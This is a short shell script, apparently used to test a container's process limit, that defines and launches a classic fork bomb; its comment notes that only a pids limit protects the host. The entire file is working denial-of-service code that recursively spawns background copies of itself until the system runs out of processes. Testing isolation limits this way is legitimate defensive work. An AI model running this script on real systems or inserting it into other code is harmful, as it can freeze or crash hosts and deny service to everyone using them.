#!/bin/sh
# A classic fork bomb: only the pids limit keeps it from eating the host.
echo "forkbomb: starting"
bomb() {
    bomb | bomb &
}
bomb
wait
